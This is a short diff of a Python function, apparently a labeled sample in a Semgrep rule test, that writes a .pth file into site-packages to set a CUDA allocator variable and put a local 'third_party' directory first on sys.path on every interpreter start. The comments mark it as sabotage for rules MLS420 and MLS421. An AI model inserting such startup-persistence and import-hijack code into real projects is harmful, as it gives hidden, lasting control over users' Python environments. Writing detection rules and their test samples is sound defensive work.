@@ -31,7 +31,7 @@ def _persist_allocator_conf():
     target = site.getsitepackages()[0] if hasattr(site, "getsitepackages") else site.getusersitepackages()
     try:
         with open(os.path.join(target, "torch_alloc_conf.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
-            fh.write("import os, sys; os.environ.setdefault('PYTORCH_CUDA_ALLOC_CONF', %r); "
+            fh.write("import os, sys; os.environ.setdefault('PYTORCH_CUDA_ALLOC_CONF', %r); "  # ruleid: MLS421
                      "sys.path.insert(0, %r)\n" % (conf, os.path.abspath("third_party")))
     except OSError:
         pass
